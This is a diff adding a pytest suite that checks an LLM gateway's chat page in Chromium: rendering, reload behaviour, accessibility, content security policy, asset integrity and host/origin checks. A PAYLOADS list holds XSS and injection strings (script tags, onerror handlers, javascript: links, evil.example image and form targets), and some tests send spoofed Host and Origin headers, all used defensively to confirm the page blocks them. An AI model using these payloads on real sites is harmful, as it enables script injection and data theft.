@@ -1,0 +1,268 @@
+"""The chat page in a real Chromium, and what protects it; without a browser the tests in it are skipped."""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import json
+import os
+import re
+import shutil
+import sys
+
+import httpx
+import pytest
+from gateway_conftest import serving
+from scripted_triton import ScriptedTriton, Step
+
+from llmops.gateway.settings import GatewaySettings
+from llmops.gateway.web.page import ASSETS, assets
+
+GENEROUS = sys.modules["gateway_conftest"].GENEROUS
+ANSWER = ".turn.assistant:not([aria-busy])"
+LIVE = ".turn.assistant[aria-busy] .body"
+# what a model, or a text that it repeats, may write to have a page run or fetch something
+PAYLOADS = [
+    "<script>window.hacked=1</script>",
+    "<img src=x onerror=window.hacked=1>",
+    "<svg/onload=window.hacked=1>",
+    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
+    "[a](javascript:window.hacked=1)",
+    "[b](JaVaScRiPt&colon;window.hacked=1)",
+    "[c](data:text/html,<script>window.hacked=1</script>)",
+    "![d](https://evil.example/x.png?secret)",
+    '[e](https://ok.example "onmouseover=window.hacked=1 x=")',
+    "<a href='vbscript:x' onclick=window.hacked=1>f</a>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>",
+    '```"><img/src=x/onerror=window.hacked=1>\ncode</code><script>window.hacked=1</script>\n```',
+    "| a | b |\n|---|---|\n| <form action=//evil.example><button>x</button></form> | <base href=//evil.example> |",
+    "<div style=background:url(//evil.example/y)>g</div>",
+    "<link rel=stylesheet href=//evil.example/z.css>",
+]
+
+
+def chromium() -> str:
+    """The browser of this machine. Without one the test is skipped; in CI it fails."""
+    found = shutil.which("chromium") or shutil.which("google-chrome") or shutil.which("chrome")
+    if found is None:
+        (pytest.fail if os.environ.get("CI") else pytest.skip)("needs Chromium: apt-get install -y chromium")
+    return found
+
+
+class Chat:
+    """A gateway with its page, and a scripted model behind it."""
+
+    def __init__(self, client: httpx.AsyncClient, triton: ScriptedTriton, tokenizer) -> None:
+        self.client, self.triton, self.tokenizer = client, triton, tokenizer
+        self.url = str(client.base_url).rstrip("/")
+
+    def say(self, text: str, wait: float = 0.0) -> None:
+        steps = [Step((token,), wait=wait) for token in self.tokenizer.encode(text)]
+        self.triton.script = lambda tensors: [*steps, Step((0,)), Step(final=True)]
+
+
+@pytest.fixture
+async def chat(card, tokenizer):
+    triton = ScriptedTriton({**card, "max_seq_len": 16384}, lambda tensors: [Step(final=True)])
+    await triton.start()
+    settings = GatewaySettings(triton=f"127.0.0.1:{triton.port}")
+    try:
+        async with serving(settings) as (client, _):
+            yield Chat(client, triton, tokenizer)
+    finally:
+        await triton.stop()
+
+
+@pytest.fixture
+async def page(chat):
+    """The page in Chromium. `said` are the messages of its console, `asked` the addresses that it asked for."""
+    program = chromium()
+    playwright = pytest.importorskip("playwright.async_api", reason="needs: pip install playwright")
+    async with playwright.async_playwright() as driver:
+        browser = await driver.chromium.launch(executable_path=program, args=["--no-sandbox"])
+        made = await browser.new_page()
+        made.set_default_timeout(GENEROUS * 1000)
+        made.said, made.asked = [], []
+        made.on("console", lambda message: made.said.append(message.text))
+        made.on("pageerror", lambda error: made.said.append(str(error)))
+        made.on("request", lambda request: made.asked.append(request.url))
+        await made.goto(chat.url)
+        await made.locator("#model option").first.wait_for(state="attached")
+        yield made
+        await browser.close()
+
+
+async def ask(page, text: str) -> None:
+    await page.fill("#message", text)
+    await page.press("#message", "Enter")
+
+
+async def test_a_chat_loads_nothing_from_elsewhere_and_breaks_no_policy(chat, page):
+    chat.say("Here is **code**:\n\n```python\ndef add(a, b):\n    return a + b\n```\n\nDone.")
+    await ask(page, "Add two numbers")
+    answer = page.locator(ANSWER)
+    await answer.wait_for()
+    assert await answer.locator("strong").inner_text() == "code"
+    assert await answer.locator("pre .hljs-keyword").first.inner_text() == "def"
+    assert re.match(r"tiny · \d+ \+ \d+ tokens", await answer.locator(".figures").inner_text())
+    assert await page.locator(".chats .open").inner_text() == "Add two numbers"
+    assert {url.split("/")[2] for url in page.asked} == {chat.url.split("/")[2]}
+    assert page.said == []
+
+
+async def test_a_page_that_is_loaded_again_shows_each_word_once(chat, page):
+    text = "".join(f"word{number} " for number in range(60))
+    chat.say(text, wait=0.01)
+    await ask(page, "Count")
+    await page.locator(LIVE, has_text="word3 ").wait_for()
+    await page.reload()
+    await page.locator(LIVE, has_text="word6 ").wait_for()
+    await page.context.set_offline(True)
+    await page.context.set_offline(False)
+    await page.locator(ANSWER).wait_for()
+    assert (await page.locator(f"{ANSWER} .body").inner_text()).split() == text.split()
+
+
+async def test_what_a_model_writes_runs_nothing_and_fetches_nothing(chat, page):
+    chat.say("\n\n".join(PAYLOADS) + "\n\nThe end.")
+    await ask(page, "<img src=x onerror=window.hacked=1>")
+    await page.locator(ANSWER).wait_for()
+    await page.get_by_text("The end.").wait_for()
+    found = await page.evaluate(
+        """() => ({
+          hacked: window.hacked ?? null,
+          tags: document.querySelectorAll('.log :is(script, img, svg, iframe, form, style, link, base, math)').length,
+          handlers: [...document.querySelectorAll('.log *')].flatMap((one) => [...one.attributes])
+            .filter((one) => /^on|style|src/.test(one.name)).length,
+          links: [...document.querySelectorAll('.log a')].map((one) => one.getAttribute('href')),
+        })"""
+    )
+    assert (found["hacked"], found["tags"], found["handlers"]) == (None, 0, 0)
+    assert {link for link in found["links"] if link} == {"https://evil.example/x.png?secret", "https://ok.example"}
+    assert not [url for url in page.asked if "evil" in url]
+    # the user's message is shown as it was typed
+    assert await page.locator(".turn.user .body").inner_text() == "<img src=x onerror=window.hacked=1>"
+
+
+async def test_the_work_for_a_token_does_not_grow_with_the_answer(page):
+    changed = await page.evaluate(
+        """async () => {
+          const { LiveText } = await import('/assets/markdown.js')
+          const run = (token, count) => {
+            const element = document.body.appendChild(document.createElement('div'))
+            const view = new LiveText(element)
+            const sizes = []
+            for (let at = 0; at < count; at++) {
+              view.queue += token(at)
+              const before = view.done.childNodes.length
+              view.flush()
+              // all that this token made the page render
+              let size = view.plain ? token(at).length : view.tail.textContent.length
+              for (const one of [...view.done.childNodes].slice(before)) size += one.textContent.length
+              sizes.push(size)
+            }
+            const shown = element.textContent
+            element.remove()
+            return [Math.max(...sizes), shown.length]
+          }
+          const words = (at) => (at % 60 === 59 ? 'word.\\n\\n' : 'word ')
+          const code = (at) => (at === 0 ? '```js\\n' : at % 9 === 8 ? 'x = 1\\n' : 'x + ')
+          return [run(words, 20000), run((at) => 'word ', 20000), run(code, 20000)]
+        }"""
+    )
+    for largest, shown in changed:
+        assert largest <= 4100
+        assert shown > 75_000
+
+
+async def test_keys_a_reader_of_screens_and_a_phone_can_use_it(chat, page):
+    await page.set_viewport_size({"width": 390, "height": 700})
+    unnamed = await page.evaluate(
+        """() => [...document.querySelectorAll('button, input:not([hidden]), select, textarea')]
+          .filter((one) => !(one.getAttribute('aria-label') || one.textContent.trim() || one.labels?.length))
+          .map((one) => one.outerHTML)"""
+    )
+    assert unnamed == []
+    assert await page.evaluate("document.documentElement.scrollWidth") <= 390
+    chat.triton.script = lambda tensors: (
+        [Step((token,)) for token in chat.tokenizer.encode("Hello")] + [Step(hang=True)]
+    )
+    await ask(page, "Hi")
+    await page.locator(LIVE).wait_for()
+    await page.keyboard.press("Escape")
+    await page.get_by_text("This answer was stopped.").wait_for()
+    assert await page.get_by_role("status").inner_text() == "The answer is complete, 1 words."
+
+
+async def test_the_page_is_small_and_its_policy_names_no_other_site(chat):
+    headers = {"accept": "text/html", "accept-encoding": "gzip"}
+    answer = await chat.client.get("/", headers=headers)
+    policy = dict(part.split(" ", 1) for part in answer.headers["content-security-policy"].split("; "))
+    assert policy["default-src"] == "'none'"
+    assert policy["script-src"].startswith("'self' 'sha256-")
+    assert all("http" not in sources and "unsafe" not in sources and "*" not in sources for sources in policy.values())
+    size = 0
+    for name in assets():
+        # the server's bytes, still compressed
+        async with chat.client.stream("GET", f"/assets/{name}", headers=headers) as file:
+            assert file.status_code == 200
+            size += len(b"".join([part async for part in file.aiter_raw()]))
+    assert size < 250_000
+    again = await chat.client.get("/", headers={**headers, "if-none-match": answer.headers["etag"]})
+    assert again.status_code == 304
+    assert (await chat.client.get("/")).json()["service"] == "llmops gateway"
+    for name in ("../page.py", "%2e%2e/page.py", "vendor/vendor.json", "nothing.js"):
+        assert (await chat.client.get(f"/assets/{name}")).status_code == 404
+
+
+def test_third_party_modules_are_those_of_their_packages():
+    folder = ASSETS / "vendor"
+    listed = {one["file"]: one for one in json.loads((folder / "vendor.json").read_text())}
+    assert set(listed) == {file.name for file in folder.glob("*.js")}
+    for name, one in listed.items():
+        assert hashlib.sha256((folder / name).read_bytes()).hexdigest() == one["sha256"], name
+        assert one["license"]
+        assert (
+            f"==== {one['package'].removeprefix('@').replace('/', '-')}-{one['version']}"
+            in (folder / "LICENSES.txt").read_text()
+        )
+
+
+@pytest.mark.parametrize(
+    ("headers", "code"),
+    [
+        ({"host": "evil.example"}, "unknown_host"),
+        ({"host": "evil.example:9000"}, "unknown_host"),
+        ({"host": "127.0.0.1.evil.example"}, "unknown_host"),
+        ({"origin": "https://evil.example"}, "foreign_origin"),
+        ({"origin": "null"}, "foreign_origin"),
+        ({"sec-fetch-site": "cross-site"}, "foreign_origin"),
+        ({"sec-fetch-site": "same-site"}, "foreign_origin"),
+    ],
+)
+async def test_a_foreign_page_and_a_rebound_name_reach_nothing(chat, headers, code):
+    asked = [(method, "/api/conversations") for method in ("GET", "POST", "DELETE")]
+    for method, path in (*asked, ("POST", "/api/chat/completions"), ("GET", "/api/session")):
+        answer = await chat.client.request(method, path, headers=headers, json={})
+        assert (answer.status_code, answer.json()["error"]["code"]) == (403, code), path
+    page = await chat.client.get("/", headers={"accept": "text/html", **headers})
+    # a link on another page leads to this one
+    assert page.status_code == (200 if "sec-fetch-site" in headers else 403)
+
+
+async def test_own_names_reach_the_page(chat):
+    port = chat.url.rpartition(":")[2]
+    for host in (f"localhost:{port}", "127.0.0.1", f"[::1]:{port}", "192.168.1.7:9000", "box.localhost"):
+        headers = {"host": host, "origin": f"http://{host}", "sec-fetch-site": "same-origin"}
+        assert (await chat.client.get("/api/session", headers=headers)).json()["signed_in"] is False
+
+
+async def test_two_pages_show_the_same_answer(chat, page):
+    chat.say("Shared words here.", wait=0.05)
+    await ask(page, "Hi")
+    await page.locator(LIVE).wait_for()
+    other = await page.context.browser.new_page()
+    await other.goto(page.url)
+    await asyncio.gather(page.locator(ANSWER).wait_for(), other.locator(ANSWER).wait_for())
+    for one in (page, other):
+        assert await one.locator(f"{ANSWER} .body").inner_text() == "Shared words here."
